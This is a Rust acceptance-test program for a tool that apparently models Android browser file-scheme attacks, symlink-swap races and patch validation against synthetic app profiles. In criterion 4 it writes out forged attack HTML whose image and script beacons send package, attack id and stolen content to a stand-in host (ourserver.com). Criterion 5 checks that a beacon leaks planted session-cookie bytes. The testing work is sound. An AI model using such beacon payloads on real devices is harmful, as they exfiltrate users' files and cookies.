//! Acceptance gate: one checked criterion per line of output.
//!
//! Runs without the default test harness so each criterion prints a
//! single pass/fail line; the process exits nonzero if any fail.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};

use filecross::commander::{
    run_suite, union_runs, validate_patch, PackageVersionResult, RunConfig, RunRecord, Transition,
};
use filecross::ebi::{score_component, EbiBit};
use filecross::forge::{forge, AttackId, AttackSpec};
use filecross::manifest::{parse_manifest, ExposureClass, IntentFilter, ManifestComponent};
use filecross::receiver::{
    http_get, parse_beacon_query, serve, AttackVerdict, BeaconStore, Evidence, Experiment,
    ExperimentRegistry, Outcome, ReceiverHandle,
};
use filecross::report::build_matrix;
use filecross::version::Version;

fn main() {
    let criteria: &[(&str, fn())] = &[
        ("scoring ground truth and ordering constraints", criterion_1),
        ("condition-formula oracle over all flag combinations", criterion_2),
        ("SOP fix and symlink flaw version semantics", criterion_3),
        ("beacon wire format byte-for-byte", criterion_4),
        ("end-to-end symlink-swap attack and its mitigation", criterion_5),
        ("patch regression at independent rendering points", criterion_6),
        ("union of runs is idempotent/commutative/absorbing", criterion_7),
        ("synthetic corpus: full recall, no false positives", criterion_8),
        ("zero-score interface sends no intents", criterion_9),
    ];
    let mut failed = 0;
    for (i, (name, f)) in criteria.iter().enumerate() {
        let result = std::panic::catch_unwind(f);
        match result {
            Ok(()) => println!("criterion {}: PASS - {name}", i + 1),
            Err(e) => {
                failed += 1;
                let msg = e
                    .downcast_ref::<String>()
                    .map(String::as_str)
                    .or_else(|| e.downcast_ref::<&str>().copied())
                    .unwrap_or("panic");
                println!("criterion {}: FAIL - {name}: {msg}", i + 1);
            }
        }
    }
    if failed > 0 {
        std::process::exit(1);
    }
}

// ---------------------------------------------------------------- helpers

fn filter(actions: &[&str], categories: &[&str], schemes: &[&str]) -> IntentFilter {
    IntentFilter {
        actions: actions.iter().map(|s| s.to_string()).collect(),
        categories: categories.iter().map(|s| s.to_string()).collect(),
        schemes: schemes.iter().map(|s| s.to_string()).collect(),
    }
}

fn view_browsable(schemes: &[&str]) -> IntentFilter {
    filter(
        &["android.intent.action.VIEW"],
        &[
            "android.intent.category.BROWSABLE",
            "android.intent.category.DEFAULT",
        ],
        schemes,
    )
}

fn main_launcher() -> IntentFilter {
    filter(
        &["android.intent.action.MAIN"],
        &["android.intent.category.LAUNCHER"],
        &[],
    )
}

fn component(name: &str, filters: Vec<IntentFilter>) -> ManifestComponent {
    let doc = parse_manifest(&format!(
        "<manifest package=\"t\"><application><activity android:name=\"{name}\"/></application></manifest>"
    ))
    .unwrap();
    let mut c = doc.components.into_iter().next().unwrap();
    c.filters = filters;
    c
}

struct Rig {
    handle: ReceiverHandle,
    _dir: tempfile::TempDir,
    config: RunConfig,
}

/// Start a receiver and stage profile JSON+XML pairs as a corpus.
fn rig(profiles: &[serde_json::Value], manifests: &[(&str, String)], kid: &str) -> Rig {
    let registry = Arc::new(ExperimentRegistry::new());
    let store = Arc::new(BeaconStore::in_memory());
    let handle = serve("127.0.0.1:0", registry, store).unwrap();
    let dir = tempfile::tempdir().unwrap();
    for (name, xml) in manifests {
        std::fs::write(dir.path().join(name), xml).unwrap();
    }
    for p in profiles {
        let pkg = p["package"].as_str().unwrap().replace('.', "-");
        std::fs::write(
            dir.path().join(format!("{pkg}.json")),
            serde_json::to_string_pretty(p).unwrap(),
        )
        .unwrap();
    }
    let config = RunConfig::new(dir.path(), kid, &handle.base_url());
    Rig {
        handle,
        _dir: dir,
        config,
    }
}

fn browser_manifest_xml(pkg: &str) -> String {
    format!(
        r#"<manifest xmlns:android="http://schemas.android.com/apk/res/android" package="{pkg}">
  <application>
    <activity android:name=".Main">
      <intent-filter>
        <action android:name="android.intent.action.MAIN"/>
        <category android:name="android.intent.category.LAUNCHER"/>
      </intent-filter>
      <intent-filter>
        <action android:name="android.intent.action.VIEW"/>
        <category android:name="android.intent.category.BROWSABLE"/>
        <data android:scheme="http"/>
        <data android:scheme="https"/>
        <data android:scheme="file"/>
      </intent-filter>
    </activity>
  </application>
</manifest>
"#
    )
}

fn bare_manifest_xml(pkg: &str) -> String {
    format!(
        r#"<manifest xmlns:android="http://schemas.android.com/apk/res/android" package="{pkg}">
  <application>
    <activity android:name=".Main" android:exported="true"/>
  </application>
</manifest>
"#
    )
}

#[allow(clippy::too_many_arguments)]
fn profile_json(
    pkg: &str,
    manifest_name: &str,
    exposed_irrelevant: bool,
    file_intents: bool,
    file_scheme: bool,
    private_access: bool,
    js_external: bool,
    engine: serde_json::Value,
    auto_download: bool,
    patch_modes: serde_json::Value,
) -> serde_json::Value {
    let _ = exposed_irrelevant;
    serde_json::json!({
        "package": pkg,
        "manifest_path": manifest_name,
        "native_libs": [],
        "dex_strings": [],
        "compiled_sdk": "2.3",
        "engine": engine,
        "handles_external_file_intents": file_intents,
        "file_scheme_supported": file_scheme,
        "private_zone_file_access": private_access,
        "js_in_file": {"user_bar": true, "external_intent": js_external},
        "uses_legacy_file_access_api": false,
        "symlink_mitigated": false,
        "auto_download_unrenderable": auto_download,
        "patch_modes": patch_modes,
    })
}

fn verdict<'a>(
    rows: &'a [PackageVersionResult],
    pkg: &str,
    ver: &str,
    attack: AttackId,
) -> &'a AttackVerdict {
    rows.iter()
        .find(|r| r.pkg == pkg && r.ver == ver)
        .unwrap_or_else(|| panic!("no row for {pkg} {ver}"))
        .verdicts
        .iter()
        .find(|v| v.attack == attack)
        .unwrap_or_else(|| panic!("no {attack} verdict for {pkg} {ver}"))
}

// ------------------------------------------------------------- criterion 1

fn criterion_1() {
    let vb = component("c", vec![view_browsable(&[])]);
    assert_eq!(score_component(&vb).value, 4, "VIEW+BROWSABLE scores 4");
    let vb_http = component("c", vec![view_browsable(&["http"])]);
    assert_eq!(score_component(&vb_http).value, 12, "adding http yields 12");

    // Every combination of the filter features the scorer looks at.
    let scheme_sets: &[&[&str]] = &[
        &[],
        &["http"],
        &["https"],
        &["file"],
        &["http", "https"],
        &["http", "file"],
        &["https", "file"],
        &["http", "https", "file"],
    ];
    for &schemes in scheme_sets {
        for has_ml in [false, true] {
            for has_vb in [false, true] {
                let mut filters = Vec::new();
                if has_ml {
                    filters.push(main_launcher());
                }
                if has_vb {
                    filters.push(view_browsable(schemes));
                }
                let c = component("c", filters);
                let score = score_component(&c);

                // https outranks http: swapping http for https in any
                // filter set never lowers the score.
                if has_vb && schemes.contains(&"http") && !schemes.contains(&"https") {
                    let swapped: Vec<&str> = schemes
                        .iter()
                        .map(|s| if *s == "http" { "https" } else { *s })
                        .collect();
                    let mut f2 = Vec::new();
                    if has_ml {
                        f2.push(main_launcher());
                    }
                    f2.push(view_browsable(&swapped));
                    let other = score_component(&component("c", f2));
                    assert!(
                        other.value > score.value,
                        "https must outrank http: {schemes:?}"
                    );
                }

                // file-only browsable sits below a reference interface.
                if has_vb && !has_ml && schemes == ["file"] {
                    assert!(score.has(EbiBit::FileOnlyBrowsable));
                    let reference = score_component(&component("c", vec![view_browsable(&[])]));
                    assert!(score.value < reference.value);
                }

                // launcher+browsable dominates every browsable-only score.
                if has_ml && has_vb {
                    assert!(score.has(EbiBit::LauncherWithBrowsable));
                    let mut solo = Vec::new();
                    solo.push(view_browsable(schemes));
                    let browsable_only = score_component(&component("c", solo));
                    assert!(score.value > browsable_only.value);
                }

                // launcher-only is the minimal nonzero score.
                if has_ml && !has_vb {
                    assert_eq!(score.value, 1, "launcher-only is minimal");
                }
                if !has_ml && !has_vb {
                    assert_eq!(score.value, 0);
                }
            }
        }
    }
}

// ------------------------------------------------------------- criterion 2

struct Flags {
    exposed: bool,
    file_support: bool,
    private_access: bool,
    js_external: bool,
    allow_ff: bool,
    allow_fh: bool,
    symlink_flaw: bool,
    auto_download: bool,
}

impl Flags {
    fn from_bits(bits: u32) -> Flags {
        Flags {
            exposed: bits & 1 != 0,
            file_support: bits & 2 != 0,
            private_access: bits & 4 != 0,
            js_external: bits & 8 != 0,
            allow_ff: bits & 16 != 0,
            allow_fh: bits & 32 != 0,
            symlink_flaw: bits & 64 != 0,
            auto_download: bits & 128 != 0,
        }
    }

    // The condition formulas, written directly from the attack
    // requirement table; the only oracle the pipeline is checked against.
    fn expect(&self, attack: AttackId) -> bool {
        let f = self;
        match attack {
            AttackId::A1 => f.exposed && f.file_support && f.private_access && f.auto_download,
            AttackId::A2 => {
                f.exposed && f.file_support && f.private_access && f.js_external && f.allow_ff
            }
            AttackId::A3 => f.exposed && f.file_support && f.js_external && f.allow_fh,
            AttackId::A4 => {
                f.exposed && f.file_support && f.private_access && f.js_external && f.symlink_flaw
            }
            _ => unreachable!(),
        }
    }
}

fn criterion_2() {
    let mut profiles = Vec::new();
    let mut manifests = Vec::new();
    for bits in 0u32..256 {
        let f = Flags::from_bits(bits);
        let pkg = format!("combo.case{bits:03}");
        let manifest_name = format!("{}.xml", pkg.replace('.', "-"));
        let xml = if f.exposed {
            browser_manifest_xml(&pkg)
        } else {
            bare_manifest_xml(&pkg)
        };
        manifests.push((manifest_name.clone(), xml));
        profiles.push(profile_json(
            &pkg,
            &manifest_name,
            f.exposed,
            f.file_support,
            f.file_support,
            f.private_access,
            f.js_external,
            serde_json::json!({"custom": {
                "allow_file_to_file": f.allow_ff,
                "allow_file_to_http": f.allow_fh,
                "symlink_flaw_present": f.symlink_flaw,
            }}),
            f.auto_download,
            serde_json::json!([]),
        ));
    }
    let manifest_refs: Vec<(&str, String)> = manifests
        .iter()
        .map(|(n, x)| (n.as_str(), x.clone()))
        .collect();
    let mut rig = rig(&profiles, &manifest_refs, "k-oracle");
    rig.config.runs = 1;
    let records = run_suite(&rig.config, &rig.handle.registry, &rig.handle.store).unwrap();
    let rows = &records[0].rows;
    for bits in 0u32..256 {
        let f = Flags::from_bits(bits);
        let pkg = format!("combo.case{bits:03}");
        for ver in ["4.0", "4.3", "4.4"] {
            for attack in AttackId::ATTACKS {
                let got = verdict(rows, &pkg, ver, attack).outcome == Outcome::Vulnerable;
                assert_eq!(
                    got,
                    f.expect(attack),
                    "case {bits:03} {attack} on {ver}: flags exp={} fs={} priv={} js={} ff={} fh={} sym={} dl={}",
                    f.exposed, f.file_support, f.private_access, f.js_external,
                    f.allow_ff, f.allow_fh, f.symlink_flaw, f.auto_download,
                );
            }
        }
    }
}

// ------------------------------------------------------------- criterion 3

fn criterion_3() {
    let mk = |pkg: &str, sdk: &str| {
        let manifest_name = format!("{}.xml", pkg.replace('.', "-"));
        let mut p = profile_json(
            pkg,
            &manifest_name,
            true,
            true,
            true,
            true,
            true,
            serde_json::json!("system_default"),
            true,
            serde_json::json!([]),
        );
        p["compiled_sdk"] = serde_json::json!(sdk);
        (p, (manifest_name, browser_manifest_xml(pkg)))
    };
    let (old_p, old_m) = mk("ver.oldsdk", "2.3");
    let (new_p, new_m) = mk("ver.newsdk", "4.4");
    let manifests = vec![(old_m.0.as_str(), old_m.1.clone()), (new_m.0.as_str(), new_m.1.clone())];
    let mut rig = rig(&[old_p, new_p], &manifests, "k-ver");
    rig.config.runs = 1;
    let records = run_suite(&rig.config, &rig.handle.registry, &rig.handle.store).unwrap();
    let rows = &records[0].rows;

    for ver in ["4.0", "4.3", "4.4"] {
        for attack in [AttackId::A2, AttackId::A3] {
            assert_eq!(
                verdict(rows, "ver.oldsdk", ver, attack).outcome,
                Outcome::Vulnerable,
                "old SDK {attack} on {ver}"
            );
        }
    }
    assert_eq!(
        verdict(rows, "ver.newsdk", "4.0", AttackId::A2).outcome,
        Outcome::Vulnerable
    );
    for ver in ["4.3", "4.4"] {
        for attack in [AttackId::A2, AttackId::A3] {
            assert_eq!(
                verdict(rows, "ver.newsdk", ver, attack).outcome,
                Outcome::NotVulnerable,
                "new SDK {attack} on {ver} must be safe"
            );
        }
    }
    // The symlink race outlives the SOP fix, 4.4 included.
    for ver in ["4.0", "4.3", "4.4"] {
        assert_eq!(
            verdict(rows, "ver.newsdk", ver, AttackId::A4).outcome,
            Outcome::Vulnerable,
            "A4 on {ver}"
        );
    }
}

// ------------------------------------------------------------- criterion 4

fn criterion_4() {
    let spec = |attack_id| AttackSpec {
        attack_id,
        target_package: "example.package".into(),
        target_file: None,
        remote_origin: None,
        device_version: "4.3".parse().unwrap(),
        key_id: "keyid".into(),
        receiver_base: "http://ourserver.com".into(),
    };

    let probe5 = forge(&spec(AttackId::ProbeFileSd)).unwrap();
    assert_eq!(
        probe5.html_text,
        "<html><body>  <img src='http://ourserver.com/req?pkg=example.package\
         &atk=5&con=reqflag&ver=4.3&kid=keyid'>  </body></html>"
    );

    let probe7 = forge(&spec(AttackId::ProbeJs)).unwrap();
    assert_eq!(
        probe7.html_text,
        "<html><body>\n\
         <script>\n\
         var d = document; var img = d.createElement('img');\n\
         img.src = 'http://ourserver.com/req?pkg=example.package&atk=7&con=reqflag&ver=4.3&kid=keyid';\n\
         d.body.appendChild(img);\n\
         </script>\n\
         <noscript>\n\
         <img src='http://ourserver.com/req?pkg=example.package&atk=7&con=&ver=4.3&kid=keyid'>\n\
         </noscript>\n\
         </body></html>"
    );

    // The noscript branch carries an empty con.
    let noscript = parse_beacon_query("pkg=example.package&atk=7&con=&ver=4.3&kid=keyid", "t")
        .expect("noscript beacon parses");
    assert_eq!(noscript.con, "");

    // All five parameters survive the HTTP round trip.
    let registry = Arc::new(ExperimentRegistry::new());
    registry.register(
        "keyid",
        Experiment {
            pkg: "example.package".into(),
            versions: vec!["4.3".into()],
            expected_digests: Default::default(),
            receipt_only: true,
        },
    );
    let store = Arc::new(BeaconStore::in_memory());
    let handle = serve("127.0.0.1:0", registry, store.clone()).unwrap();
    let url = format!(
        "{}/req?pkg=example.package&atk=5&con=reqflag&ver=4.3&kid=keyid",
        handle.base_url()
    );
    assert_eq!(http_get(&url).unwrap(), 200);
    let beacons = store.snapshot();
    assert_eq!(beacons.len(), 1);
    let b = &beacons[0];
    assert_eq!(
        (b.pkg.as_str(), b.atk, b.con.as_str(), b.ver.as_str(), b.kid.as_str()),
        ("example.package", 5, "reqflag", "4.3", "keyid")
    );
    handle.shutdown();
}

// ------------------------------------------------------------- criterion 5

fn criterion_5() {
    let mk = |pkg: &str, mitigated: bool| {
        let manifest_name = format!("{}.xml", pkg.replace('.', "-"));
        let mut p = profile_json(
            pkg,
            &manifest_name,
            true,
            true,
            true,
            true,
            true,
            serde_json::json!("system_default"),
            true,
            serde_json::json!([]),
        );
        p["symlink_mitigated"] = serde_json::json!(mitigated);
        if mitigated {
            // Take the SOP holes away too, so the only open question is
            // the symlink race.
            p["engine"] = serde_json::json!({"custom": {
                "allow_file_to_file": true,
                "allow_file_to_http": true,
                "symlink_flaw_present": false,
            }});
        }
        (p, (manifest_name, browser_manifest_xml(pkg)))
    };
    let (vuln_p, vuln_m) = mk("swap.open", false);
    let (fixed_p, fixed_m) = mk("swap.fixed", true);
    let manifests = vec![
        (vuln_m.0.as_str(), vuln_m.1.clone()),
        (fixed_m.0.as_str(), fixed_m.1.clone()),
    ];
    let mut rig = rig(&[vuln_p, fixed_p], &manifests, "k-swap");
    rig.config.runs = 1;
    let records = run_suite(&rig.config, &rig.handle.registry, &rig.handle.store).unwrap();
    let rows = &records[0].rows;

    let open = verdict(rows, "swap.open", "4.0", AttackId::A4);
    assert_eq!(open.outcome, Outcome::Vulnerable);
    // The beacon carries the planted cookie bytes, not just a receipt.
    let Some(Evidence::Beacon(b)) = &open.evidence else {
        panic!("A4 evidence must be a beacon");
    };
    assert!(b.con.contains("SESSION="), "beacon content: {}", b.con);
    assert_eq!(b.atk, 4);

    let fixed = verdict(rows, "swap.fixed", "4.0", AttackId::A4);
    assert_eq!(fixed.outcome, Outcome::NotVulnerable);
    assert!(fixed.evidence.is_none());
    let fixed_beacons = rig
        .handle
        .store
        .snapshot()
        .iter()
        .filter(|b| b.pkg == "swap.fixed" && b.atk == 4)
        .count();
    assert_eq!(fixed_beacons, 0, "mitigated swap must not beacon");
}

// ------------------------------------------------------------- criterion 6

fn criterion_6() {
    use filecross::sandbox::{load_profile, PatchMode, RenderingPoint};

    let dir = tempfile::tempdir().unwrap();
    let pkg = "patch.case";
    std::fs::write(dir.path().join("m.xml"), browser_manifest_xml(pkg)).unwrap();
    let base = profile_json(
        pkg,
        "m.xml",
        true,
        true,
        true,
        true,
        true,
        serde_json::json!("system_default"),
        true,
        serde_json::json!([]),
    );
    std::fs::write(
        dir.path().join("p.json"),
        serde_json::to_string(&base).unwrap(),
    )
    .unwrap();
    let before = load_profile(&dir.path().join("p.json")).unwrap();

    let mut half = before.clone();
    half.patch_modes.insert(PatchMode::DisableJsInFile(
        [RenderingPoint::UserBar].into_iter().collect(),
    ));
    let mut full = before.clone();
    full.patch_modes.insert(PatchMode::DisableJsInFile(
        [RenderingPoint::UserBar, RenderingPoint::ExternalIntent]
            .into_iter()
            .collect(),
    ));

    let registry = Arc::new(ExperimentRegistry::new());
    let store = Arc::new(BeaconStore::in_memory());
    let handle = serve("127.0.0.1:0", registry.clone(), store.clone()).unwrap();
    let mut config = RunConfig::new(dir.path(), "k-patch", &handle.base_url());
    config.runs = 1;

    let half_report = validate_patch(&before, &half, &config, &registry, &store).unwrap();
    let a2 = half_report
        .transitions
        .iter()
        .find(|t| t.attack == AttackId::A2)
        .expect("A2 transition");
    assert_eq!(
        a2.transition,
        Transition::StillVulnerable,
        "half patch leaves A2 exploitable"
    );
    assert!(a2.evidence.is_some());

    let full_report = validate_patch(&before, &full, &config, &registry, &store).unwrap();
    for attack in [AttackId::A2, AttackId::A3, AttackId::A4] {
        let ts: Vec<_> = full_report
            .transitions
            .iter()
            .filter(|t| t.attack == attack)
            .collect();
        assert!(!ts.is_empty(), "{attack} must appear in the report");
        for t in ts {
            assert_eq!(t.transition, Transition::Blocked, "{attack} on {}", t.ver);
        }
    }
    handle.shutdown();
}

// ------------------------------------------------------------- criterion 7

fn random_record(rng: &mut StdRng, config_id: &str) -> RunRecord {
    let outcomes = [Outcome::NoResponse, Outcome::NotVulnerable, Outcome::Vulnerable];
    let rows = (0..4)
        .map(|i| {
            let pkg = format!("pkg.{i}");
            let ver = "4.0".to_string();
            PackageVersionResult {
                pkg: pkg.clone(),
                ver: ver.clone(),
                facts: filecross::commander::CapabilityFacts {
                    ebi: 12,
                    ebi_component: None,
                    exposure_class: ExposureClass::Intentional,
                    file_support_sd: None,
                    file_support_private: None,
                    js_in_file: None,
                    engine_guess: filecross::manifest::EngineGuess::Default,
                },
                verdicts: AttackId::ATTACKS
                    .iter()
                    .map(|attack| AttackVerdict {
                        pkg: pkg.clone(),
                        attack: *attack,
                        ver: ver.clone(),
                        outcome: outcomes[rng.gen_range(0..3)],
                        evidence: None,
                    })
                    .collect(),
            }
        })
        .collect();
    RunRecord {
        run_index: 1,
        config_id: config_id.into(),
        rows,
        errors: vec![],
        warnings: vec![],
    }
}

fn outcome_grid(record: &RunRecord) -> Vec<Outcome> {
    record
        .rows
        .iter()
        .flat_map(|r| r.verdicts.iter().map(|v| v.outcome))
        .collect()
}

fn criterion_7() {
    let mut rng = StdRng::seed_from_u64(0x5eed);
    for case in 0..1000 {
        let triple = vec![
            random_record(&mut rng, "c"),
            random_record(&mut rng, "c"),
            random_record(&mut rng, "c"),
        ];
        let merged = union_runs(&triple).unwrap();

        // Idempotent: merging the merge changes nothing.
        let again = union_runs(&[merged.clone(), merged.clone()]).unwrap();
        assert_eq!(outcome_grid(&again), outcome_grid(&merged), "case {case}");

        // Commutative: order of runs is irrelevant.
        let mut shuffled = triple.clone();
        shuffled.shuffle(&mut rng);
        let merged2 = union_runs(&shuffled).unwrap();
        assert_eq!(outcome_grid(&merged2), outcome_grid(&merged), "case {case}");

        // Absorbing: any vulnerable observation wins; otherwise any
        // definitive negative beats silence.
        for (i, cell) in outcome_grid(&merged).iter().enumerate() {
            let inputs: Vec<Outcome> = triple.iter().map(|r| outcome_grid(r)[i]).collect();
            let expected = inputs.iter().copied().max().unwrap();
            assert_eq!(*cell, expected, "case {case} cell {i}: {inputs:?}");
        }
    }
}

// ------------------------------------------------------------- criterion 8

/// Recompute the expected verdicts for a shipped corpus profile straight
/// from its JSON flags and raw manifest text, independent of the library.
struct ExpectedProfile {
    pkg: String,
    exposed: bool,
    file_support: bool,
    private_access: bool,
    js_external: bool,
    auto_download: bool,
    custom: Option<(bool, bool, bool)>,
    compiled_sdk: f64,
    legacy_api: bool,
    symlink_mitigated: bool,
}

impl ExpectedProfile {
    fn parse(dir: &Path, json_path: &Path) -> ExpectedProfile {
        let v: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(json_path).unwrap()).unwrap();
        let xml =
            std::fs::read_to_string(dir.join(v["manifest_path"].as_str().unwrap())).unwrap();
        let exposed = xml.contains("android.intent.category.BROWSABLE")
            || (xml.contains("android.intent.action.MAIN")
                && xml.contains("android.intent.category.LAUNCHER"));
        let patches = v["patch_modes"].as_array().cloned().unwrap_or_default();
        let has_patch = |name: &str| patches.iter().any(|p| p == name);
        let js_patched_external = patches.iter().any(|p| {
            p.get("disable_js_in_file")
                .and_then(|points| points.as_array())
                .map(|points| points.iter().any(|pt| pt == "external_intent"))
                .unwrap_or(false)
        });
        let private_unrenderable_off = has_patch("disable_private_unrenderable");
        ExpectedProfile {
            pkg: v["package"].as_str().unwrap().to_string(),
            exposed,
            file_support: v["handles_external_file_intents"].as_bool().unwrap()
                && v["file_scheme_supported"].as_bool().unwrap()
                && !has_patch("block_external_file_urls"),
            private_access: v["private_zone_file_access"].as_bool().unwrap(),
            js_external: v["js_in_file"]["external_intent"].as_bool().unwrap()
                && !js_patched_external,
            auto_download: v["auto_download_unrenderable"].as_bool().unwrap()
                && !private_unrenderable_off,
            custom: v["engine"].get("custom").map(|c| {
                (
                    c["allow_file_to_file"].as_bool().unwrap(),
                    c["allow_file_to_http"].as_bool().unwrap(),
                    c["symlink_flaw_present"].as_bool().unwrap(),
                )
            }),
            compiled_sdk: v["compiled_sdk"].as_str().unwrap().parse().unwrap(),
            legacy_api: v["uses_legacy_file_access_api"].as_bool().unwrap(),
            symlink_mitigated: v["symlink_mitigated"].as_bool().unwrap(),
        }
    }

    fn allow_sop(&self, device: f64) -> bool {
        match self.custom {
            Some((ff, _, _)) => ff,
            None => device < 4.1 || self.compiled_sdk < 4.1 || self.legacy_api,
        }
    }

    fn allow_sop_http(&self, device: f64) -> bool {
        match self.custom {
            Some((_, fh, _)) => fh,
            None => device < 4.1 || self.compiled_sdk < 4.1 || self.legacy_api,
        }
    }

    fn symlink_flaw(&self) -> bool {
        match self.custom {
            Some((_, _, flaw)) => flaw,
            None => !self.symlink_mitigated,
        }
    }

    fn expect(&self, attack: AttackId, device: f64) -> bool {
        match attack {
            AttackId::A1 => {
                self.exposed && self.file_support && self.private_access && self.auto_download
            }
            AttackId::A2 => {
                self.exposed
                    && self.file_support
                    && self.private_access
                    && self.js_external
                    && self.allow_sop(device)
            }
            AttackId::A3 => {
                self.exposed && self.file_support && self.js_external && self.allow_sop_http(device)
            }
            AttackId::A4 => {
                self.exposed
                    && self.file_support
                    && self.private_access
                    && self.js_external
                    && self.symlink_flaw()
            }
            _ => unreachable!(),
        }
    }
}

fn shipped_corpus_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../corpus")
}

fn criterion_8() {
    let corpus = shipped_corpus_dir();
    let mut expected = Vec::new();
    let mut paths: Vec<PathBuf> = std::fs::read_dir(&corpus)
        .unwrap()
        .filter_map(|e| e.ok())
        .map(|e| e.path())
        .filter(|p| p.extension().map(|e| e == "json").unwrap_or(false))
        .collect();
    paths.sort();
    for p in &paths {
        expected.push(ExpectedProfile::parse(&corpus, p));
    }
    assert!(expected.len() >= 20, "corpus must hold at least 20 profiles");

    let registry = Arc::new(ExperimentRegistry::new());
    let store = Arc::new(BeaconStore::in_memory());
    let handle = serve("127.0.0.1:0", registry.clone(), store.clone()).unwrap();
    let config = RunConfig::new(&corpus, "k-corpus", &handle.base_url());
    assert_eq!(config.runs, 3);
    let records = run_suite(&config, &registry, &store).unwrap();
    assert_eq!(records.len(), 3);
    let merged = union_runs(&records).unwrap();
    assert!(merged.errors.is_empty(), "errors: {:?}", merged.errors);

    let mut checked = 0;
    for exp in &expected {
        for ver in ["4.0", "4.3", "4.4"] {
            let device: f64 = ver.parse().unwrap();
            for attack in AttackId::ATTACKS {
                let got =
                    verdict(&merged.rows, &exp.pkg, ver, attack).outcome == Outcome::Vulnerable;
                let want = exp.expect(attack, device);
                assert!(
                    !(want && !got),
                    "missed planted flaw: {} {attack} on {ver}",
                    exp.pkg
                );
                assert!(
                    !(!want && got),
                    "false positive: {} {attack} on {ver}",
                    exp.pkg
                );
                checked += 1;
            }
        }
    }
    assert_eq!(checked, expected.len() * 12);

    // And every matrix y is backed by a vulnerable verdict with evidence.
    let matrix = build_matrix(&merged);
    for row in &matrix.rows {
        if row.is_vulnerable() {
            let has_evidence = merged
                .rows
                .iter()
                .filter(|r| r.pkg == row.package)
                .flat_map(|r| r.verdicts.iter())
                .any(|v| v.outcome == Outcome::Vulnerable && v.evidence.is_some());
            assert!(has_evidence, "{} lacks evidence", row.package);
        }
    }
    handle.shutdown();
}

// ------------------------------------------------------------- criterion 9

fn criterion_9() {
    let pkg = "zero.score";
    let manifest_name = "zero-score.xml";
    let p = profile_json(
        pkg,
        manifest_name,
        false,
        true,
        true,
        true,
        true,
        serde_json::json!("system_default"),
        true,
        serde_json::json!([]),
    );
    let manifests = vec![(manifest_name, bare_manifest_xml(pkg))];
    let mut rig = rig(&[p], &manifests, "k-zero");
    rig.config.runs = 1;
    let records = run_suite(&rig.config, &rig.handle.registry, &rig.handle.store).unwrap();
    let rows = &records[0].rows;
    assert_eq!(rows.len(), 3, "one row per device version");
    for row in rows {
        assert_eq!(row.facts.ebi, 0);
        assert_eq!(row.facts.exposure_class, ExposureClass::NotExposed);
        for v in &row.verdicts {
            assert_eq!(v.outcome, Outcome::NoResponse, "matrix cell stays blank");
        }
    }
    // No intents were sent: nothing beaconed and nothing was registered.
    assert!(rig.handle.store.snapshot().is_empty());
    assert!(!rig.handle.registry.contains("k-zero"));

    // The shipped corpus carries the same shape.
    let corpus = shipped_corpus_dir();
    let names: BTreeSet<String> = std::fs::read_dir(&corpus)
        .unwrap()
        .filter_map(|e| e.ok())
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    assert!(names.contains("com-plain-docviewer.json"));

    // Version sanity for the suite default.
    let v: Version = "4.4".parse().unwrap();
    assert_eq!(v.to_string(), "4.4");
}
